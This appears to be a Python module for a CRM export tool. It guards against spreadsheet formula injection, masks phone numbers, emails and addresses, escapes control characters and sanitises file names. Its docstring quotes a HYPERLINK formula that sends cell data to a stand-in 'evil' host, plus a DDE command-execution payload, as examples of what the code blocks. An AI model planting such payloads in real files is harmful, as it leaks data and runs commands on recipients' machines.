"""Safe output: no formula injection, and masking of personal data in exports.

Formula injection: a text such as ``=HYPERLINK("http://evil/?"&A1)`` or ``+cmd|' /C calc'!A0``
typed into the register must come out of every file the tool writes as text, never as a
formula. In xlsx that means writing every ``str`` with ``write_string`` (:func:`write_cell`);
in CSV, which has no types, a formula-like text is prefixed with a single quote (:func:`csv_safe`,
the OWASP recommendation), which Excel shows as text. Numbers stay numbers: ``-5`` is a number,
only the *text* ``"-5"`` is quoted in CSV.

Masking keeps enough to recognise a value (``138****5678``, ``j***@example.com``) for exports
to outside parties. Scalar functions take any value and return None/NaN/empty unchanged; the
``*_series`` versions work column-wise on pandas Series.
"""

from __future__ import annotations

import datetime as dt
import math
import re
from decimal import Decimal
from numbers import Integral, Real
from typing import Any, Mapping

import pandas as pd

FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_PATTERN = r"^[=+\-@\t\r]"

# --------------------------------------------------------------------------------------------
# Formula injection
# --------------------------------------------------------------------------------------------


def is_formula_like(value: object) -> bool:
    """True for a text a spreadsheet could take as a formula (starts with = + - @ tab CR)."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def csv_safe(value: object) -> object:
    """Prefix a formula-like text with ``'``; any other value is returned unchanged."""
    return "'" + value if is_formula_like(value) else value


def safe_text(value: object) -> object:
    """Neutralise a value for a text-only output (CSV, clipboard, plain reports).

    Same rule as :func:`csv_safe`. For xlsx do not alter the text: write it with
    :func:`write_cell`, which stores every ``str`` as a string cell.
    """
    return csv_safe(value)


def csv_safe_series(series: pd.Series) -> pd.Series:
    """Column-wise :func:`csv_safe`: text values starting with = + - @ tab CR get a ``'``."""
    if series.dtype.kind in "biufcmM":  # numbers, booleans, dates: no text to neutralise
        return series
    try:
        risky = series.str.match(_FORMULA_PATTERN, na=False).astype(bool)
    except AttributeError:  # an object column without any text
        return series
    if not risky.any():
        return series
    out = series.astype(object).copy()
    out[risky] = "'" + series[risky].astype("str")
    return out


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """:func:`csv_safe_series` on every column; header labels are neutralised too."""
    out = frame.apply(csv_safe_series)
    out.columns = [csv_safe(c) for c in frame.columns]
    return out


def write_cell(worksheet, row: int, col: int, value: Any, fmt=None) -> int:
    """Write one value with xlsxwriter so that text can never become a formula.

    ``str`` → ``write_string``; bool → ``write_boolean``; int/float/Decimal → ``write_number``;
    date/datetime/time/timedelta/Timestamp → ``write_datetime`` (pass a date ``fmt``);
    None/NaN/NaT/NA → ``write_blank``; anything else → its ``str`` as a string.
    Returns xlsxwriter's status code.
    """
    if value is None or value is pd.NaT or value is pd.NA:
        return worksheet.write_blank(row, col, None, fmt)
    if isinstance(value, str):
        return worksheet.write_string(row, col, value, fmt)
    if isinstance(value, bool) or type(value).__name__ == "bool_":
        return worksheet.write_boolean(row, col, bool(value), fmt)
    if isinstance(value, (Integral, Real, Decimal)):
        number = float(value)
        if math.isnan(number):
            return worksheet.write_blank(row, col, None, fmt)
        if math.isinf(number):
            return worksheet.write_string(row, col, str(value), fmt)
        return worksheet.write_number(row, col, number, fmt)
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, (dt.datetime, dt.time)) and value.tzinfo is not None:
        value = value.replace(tzinfo=None)
    if isinstance(value, (dt.date, dt.time, dt.timedelta)):
        return worksheet.write_datetime(row, col, value, fmt)
    if type(value).__name__ == "datetime64":
        return write_cell(worksheet, row, col, pd.Timestamp(value), fmt)
    return worksheet.write_string(row, col, str(value), fmt)


def write_frame(worksheet, frame: pd.DataFrame, start_row: int = 0, start_col: int = 0,
                header: bool = True, header_fmt=None,
                formats: Mapping[str, Any] | None = None) -> int:
    """Write a DataFrame (optionally with its header) through :func:`write_cell`.

    ``formats`` maps a column name to an xlsxwriter format. Returns the next free row.
    """
    formats = formats or {}
    row = start_row
    if header:
        for j, name in enumerate(frame.columns):
            write_cell(worksheet, row, start_col + j, str(name), header_fmt)
        row += 1
    columns = list(frame.columns)
    for values in frame.itertuples(index=False, name=None):
        for j, value in enumerate(values):
            write_cell(worksheet, row, start_col + j, value, formats.get(columns[j]))
        row += 1
    return row


# --------------------------------------------------------------------------------------------
# Masking
# --------------------------------------------------------------------------------------------

MASK = "***"
_PHONE_RUN = re.compile(r"(?:\+|00)?\d[\d \-().\u3000（）]{4,}\d")
_EMAIL = re.compile(r"([^\s@<>,;，；:：]+)@([^\s@<>,;，；]+)")
_EMAIL_ANY = re.compile(r"[^\s@<>,;，；:：]+@[^\s@<>,;，；]+")


def _is_blank(value: object) -> bool:
    if value is None:
        return True
    if isinstance(value, float) and math.isnan(value):
        return True
    return value is pd.NA or value is pd.NaT or (isinstance(value, str) and not value.strip())


def _mask_phone_match(match: re.Match) -> str:
    from crm_xl.personal_data import mask_phone_text

    return mask_phone_text(match.group(0))


def mask_phone(value: object) -> object:
    """``13812345678`` → ``138****5678``; ``+86 138-1234-5678`` → ``+86 138****5678``.

    Every phone-like run in the text is masked (so ``手机 138…/ 座机 010-…`` keeps its labels);
    a value with no such run has all its digits hidden.
    """
    if _is_blank(value):
        return value
    text = str(value)
    masked, count = _PHONE_RUN.subn(_mask_phone_match, text)
    return masked if count else re.sub(r"\d", "*", text)


def mask_email(value: object) -> object:
    """``john@example.com`` → ``j***@example.com`` (every address in the text)."""
    if _is_blank(value):
        return value
    text = str(value)
    masked, count = _EMAIL.subn(lambda m: f"{m.group(1)[0]}{MASK}@{m.group(2)}", text)
    return masked if count else mask_text(text)


def mask_text(value: object, keep: int = 6) -> object:
    """First ``keep`` characters + ``***`` (at most half of a short text is kept).

    ``广东省深圳市南山区科技园 1 号`` → ``广东省深圳市***``.
    """
    if _is_blank(value):
        return value
    text = str(value).strip()
    return text[: min(keep, len(text) // 2)] + MASK


def mask_im(value: object, keep: int = 2) -> object:
    """An IM handle: ``wxid_abc12345`` → ``wx***45``; phone-number handles (WhatsApp) as phones."""
    if _is_blank(value):
        return value
    text = str(value).strip()
    if re.fullmatch(r"\+?[\d \-()]{7,}", text):
        return mask_phone(text)
    if len(text) <= 2 * keep + 1:
        return text[:1] + MASK
    return text[:keep] + MASK + text[-keep:]


def _text_series(series: pd.Series) -> tuple[pd.Series, pd.Series]:
    """(text values as str, mask of rows that hold a non-blank value)."""
    present = series.notna()
    text = series.astype("str").where(present, "")
    present &= text.str.strip().ne("")
    return text, present


def _apply_masked(series: pd.Series, masked: pd.Series, present: pd.Series) -> pd.Series:
    out = series.astype(object).copy()
    out[present] = masked[present]
    return out


def mask_phone_series(series: pd.Series) -> pd.Series:
    """Column-wise :func:`mask_phone`."""
    text, present = _text_series(series)
    masked = text.str.replace(_PHONE_RUN, _mask_phone_match, regex=True)
    unmatched = present & ~text.str.contains(_PHONE_RUN, regex=True)
    masked = masked.where(~unmatched, text.str.replace(r"\d", "*", regex=True))
    return _apply_masked(series, masked, present)


def mask_email_series(series: pd.Series) -> pd.Series:
    """Column-wise :func:`mask_email`."""
    text, present = _text_series(series)
    masked = text.str.replace(_EMAIL, lambda m: f"{m.group(1)[0]}{MASK}@{m.group(2)}",
                              regex=True)
    unmatched = present & ~text.str.contains(_EMAIL_ANY, regex=True)
    masked = masked.where(~unmatched, mask_text_series(text))
    return _apply_masked(series, masked, present)


def mask_text_series(series: pd.Series, keep: int = 6) -> pd.Series:
    """Column-wise :func:`mask_text`."""
    text, present = _text_series(series)
    stripped = text.str.strip()
    kept = (stripped.str.len() // 2).clip(upper=keep)
    heads = stripped.str.slice(0, keep)
    for n in kept[kept < keep].unique():  # short texts: at most keep passes
        rows = kept == n
        heads = heads.where(~rows, stripped.str.slice(0, int(n)))
    return _apply_masked(series, heads + MASK, present)


def mask_im_series(series: pd.Series, keep: int = 2) -> pd.Series:
    """Column-wise :func:`mask_im`."""
    text, present = _text_series(series)
    stripped = text.str.strip()
    phone_like = stripped.str.fullmatch(r"\+?[\d \-()]{7,}")
    short = stripped.str.len() <= 2 * keep + 1
    masked = stripped.str.slice(0, keep) + MASK + stripped.str.slice(-keep)
    masked = masked.where(~short, stripped.str.slice(0, 1) + MASK)
    masked = masked.where(~phone_like, mask_phone_series(stripped))
    return _apply_masked(series, masked, present)


MASKERS = {
    "phone": mask_phone_series,
    "email": mask_email_series,
    "text": mask_text_series,
    "address": mask_text_series,
    "im": mask_im_series,
}


def mask_frame(frame: pd.DataFrame, columns: Mapping[str, str]) -> pd.DataFrame:
    """Mask the given columns: ``{"phone": "phone", "email": "email", "wechat": "im"}``.

    Kinds: phone, email, text/address, im. Columns missing from the frame are skipped.
    """
    out = frame.copy()
    for column, kind in columns.items():
        if column in out.columns:
            out[column] = MASKERS[kind](out[column])
    return out


# --------------------------------------------------------------------------------------------
# Control characters (terminal, JUnit XML, logs)
# --------------------------------------------------------------------------------------------

# C0 controls but tab and newline, DEL, C1 controls, and the bidirectional overrides that make a
# terminal show text in another order than it is stored.
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def visible_text(value: object) -> str:
    """``value`` as text with every control character shown as ``\\xNN``/``\\uNNNN``: an ESC typed
    into a cell cannot move the cursor or recolour a terminal, and JUnit XML stays valid."""
    text = "" if value is None else str(value)
    if not _CONTROL.search(text):
        return text
    return _CONTROL.sub(lambda m: f"\\x{ord(m.group(0)):02x}" if ord(m.group(0)) < 0x100
                        else f"\\u{ord(m.group(0)):04x}", text)


def visible_line(value: object) -> str:
    """:func:`visible_text` on one line: newlines and tabs shown as ``\\n``/``\\t`` too."""
    return visible_text(value).replace("\r", "\\r").replace("\n", "\\n").replace("\t", "\\t")


def log_field(value: object) -> object:
    """A field of a CSV log: control characters shown, formula-like text quoted."""
    if value is None or isinstance(value, (int, float)):
        return value
    return csv_safe(visible_line(value))


# --------------------------------------------------------------------------------------------
# File names made from data (owners' names)
# --------------------------------------------------------------------------------------------

_UNSAFE_NAME_CHAR = re.compile(r'[\\/:*?"<>|%~\x00-\x1f\x7f]')
_RESERVED_NAMES = {"con", "prn", "aux", "nul", *(f"com{i}" for i in range(10)), *(f"lpt{i}" for i in range(10))}
MAX_NAME_BYTES = 120


def _quote_char(ch: str) -> str:
    return "".join(f"%{b:02X}" for b in ch.encode("utf-8"))


def name_part(text: str) -> str:
    """``text`` as part of a file name, reversibly: characters no file system accepts (``/ : ? *``
    …), ``%`` itself and leading/trailing dots and spaces become ``%XX`` (undo with
    ``urllib.parse.unquote``). Distinct texts give distinct parts."""
    part = _UNSAFE_NAME_CHAR.sub(lambda m: _quote_char(m.group(0)), text)
    lead = len(part) - len(part.lstrip(" ."))
    part = "".join(_quote_char(c) for c in part[:lead]) + part[lead:]
    trail = len(part) - len(part.rstrip(" ."))
    if trail:
        part = part[:len(part) - trail] + "".join(_quote_char(c) for c in part[len(part) - trail:])
    if part.split(".")[0].lower() in _RESERVED_NAMES:
        part = _quote_char(part[0]) + part[1:]
    return part or "%00"


def unique_file_names(names: list[str], prefix: str, suffix: str) -> dict[str, str]:
    """A file name per name: ``prefix + name_part(name) + suffix``; too long a name is shortened
    and given a hash of the full name, and names that differ only in case (one file on Windows and
    macOS) get a hash too, so no two names ever share a file."""
    import hashlib

    def digest(name: str) -> str:
        return hashlib.sha256(name.encode("utf-8")).hexdigest()[:10]

    out: dict[str, str] = {}
    folded: dict[str, int] = {}
    parts = {n: name_part(n) for n in names}
    for part in parts.values():
        folded[part.casefold()] = folded.get(part.casefold(), 0) + 1
    for name, part in parts.items():
        if len(part.encode("utf-8")) > MAX_NAME_BYTES:
            cut = part.encode("utf-8")[:MAX_NAME_BYTES].decode("utf-8", "ignore")
            part = f"{cut}~{digest(name)}"
        elif folded[part.casefold()] > 1:
            part = f"{part}~{digest(name)}"
        out[name] = f"{prefix}{part}{suffix}"
    return out
